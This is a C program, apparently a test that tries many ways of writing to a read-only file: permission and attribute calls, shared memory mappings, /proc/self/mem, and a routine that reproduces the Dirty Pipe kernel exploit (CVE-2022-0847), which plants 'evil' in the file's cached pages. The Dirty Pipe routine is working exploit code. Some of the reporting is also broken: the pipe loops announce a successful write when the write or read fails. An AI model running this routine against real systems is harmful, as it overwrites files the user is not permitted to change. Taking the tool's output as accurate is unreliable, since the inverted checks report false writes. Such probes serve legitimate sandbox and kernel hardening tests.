/* dirty FILE: tries to write to a file that may only be read, by every way that leads to the pages that all who read it share.
 * A line "wrote WAY" for each that works. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

static const char *path;

static void report(const char *way, int worked) {
  if (worked) printf("wrote by %s\n", way);
}

/* CVE-2022-0847: a page of the file in a pipe, whose leftover flag lets what is written to the pipe next be merged into it. */
static void by_pipe(int fd) {
  static char bytes[65536];
  int ends[2];
  if (pipe(ends) != 0) return;
  long size = fcntl(ends[1], F_SETPIPE_SZ, sizeof bytes);
  for (long left = size; left > 0; left -= 4096) report("a pipe's own", write(ends[1], bytes, 4096) < 0);
  for (long left = size; left > 0; left -= 4096) report("a pipe's own", read(ends[0], bytes, 4096) < 0);
  off_t from = 0;
  if (splice(fd, &from, ends[1], NULL, 1, 0) != 1) return;
  if (write(ends[1], "evil", 4) != 4) return;
  char now[8] = "";
  report("a pipe", pread(fd, now, 5, 0) > 1 && memcmp(now + 1, "evil", 4) == 0);
}

static void by_memory(int fd) {
  report("a shared mapping", mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED);
  char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  if (shared == MAP_FAILED) return;
  report("mprotect", mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0);
  int memory = open("/proc/self/mem", O_RDWR);
  report("/proc/self/mem", pwrite(memory, "evil", 4, (off_t)(size_t)shared) == 4);
  close(memory);
}

int main(int argc, char **argv) {
  struct stat before, after;
  if (argc != 2) return 2;
  path = argv[1];
  int fd = open(path, O_RDONLY);
  if (fd < 0 || fstat(fd, &before) != 0) return perror(path), 2;
  char again[40];
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  report("open", open(path, O_WRONLY) >= 0);
  report("open again", open(again, O_RDWR) >= 0);
  report("truncate", truncate(path, 1) == 0);
  report("chmod", chmod(path, 0777) == 0);
  report("fchmod", fchmod(fd, 0777) == 0);
  report("chown", chown(path, 1, 1) == 0);
  report("xattr", setxattr(path, "user.evil", "1", 1, 0) == 0);
  report("fxattr", fsetxattr(fd, "user.evil", "1", 1, 0) == 0);
  report("utimes", utimensat(AT_FDCWD, path, NULL, 0) == 0);
  report("fallocate", fallocate(fd, 0, 0, 1 << 20) == 0);
  int flags = 0;
  report("flags", ioctl(fd, _IOR('f', 1, long), &flags) == 0 && ioctl(fd, _IOW('f', 2, long), &flags) == 0);
  report("link", linkat(AT_FDCWD, again, AT_FDCWD, "/tmp/link", AT_SYMLINK_FOLLOW) == 0);
  by_memory(fd);
  by_pipe(fd);
  if (fstat(fd, &after) == 0) report("the end", after.st_size != before.st_size || after.st_mode != before.st_mode);
  puts("done");
  return 0;
}
